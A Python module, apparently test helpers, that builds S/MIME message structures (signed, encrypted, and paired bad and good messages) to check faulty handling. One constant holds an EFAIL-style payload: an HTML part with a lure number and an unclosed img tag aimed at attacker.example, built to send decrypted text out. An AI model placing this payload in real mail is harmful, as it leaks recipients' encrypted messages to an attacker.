"""The layers of mail with S/MIME by the team, for those who put them together in a wrong way."""

from pairs import Twins
from smime_network import TEAM, Network
from smime_people import Person
from smime_shapes import (
    APPLE_MAIL,
    CONTENT,
    clear_signed,
    cms_entity,
    encrypted,
    message,
    signature,
)

LURE = b"+491234567"
BESIDE = b"Content-Type: text/html\r\n\r\nCall %b. <img src='http://attacker.example/\r\n" % LURE


def detached(here: Network, *options: str, content: bytes = CONTENT, by: Person | None = None) -> bytes:
    """multipart/signed, by the team where it is by nobody else."""
    structure = signature(content, by or here.team, detached=True, options=options)
    return clear_signed(APPLE_MAIL, content, structure)


def opaque(here: Network, *options: str, content: bytes = CONTENT, by: Person | None = None) -> bytes:
    """Signed in one piece."""
    return in_one_piece(signature(content, by or here.team, detached=False, options=options))


def in_one_piece(structure: bytes) -> bytes:
    return cms_entity(APPLE_MAIL, "signed-data", structure)


def wrapped(here: Network, entity: bytes) -> bytes:
    """Encrypted to the list, and not yet a message."""
    return encrypted(APPLE_MAIL, entity, here.own)


def from_team(entity: bytes) -> bytes:
    return message(APPLE_MAIL, entity, TEAM)


def sealed(structure: bytes) -> bytes:
    return from_team(cms_entity(APPLE_MAIL, "enveloped-data", structure))


def inside(here: Network, bad: bytes, good: bytes) -> Twins:
    """Both encrypted to the list."""
    return here.mail(bad), here.mail(good)
